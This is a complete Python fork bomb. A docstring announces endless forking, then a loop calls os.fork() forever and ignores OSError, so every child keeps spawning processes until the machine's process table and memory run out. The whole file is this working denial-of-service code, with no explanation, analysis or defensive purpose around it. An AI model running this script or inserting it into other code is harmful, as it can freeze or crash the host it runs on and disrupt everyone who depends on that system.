"""Forks without end, each child as well."""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
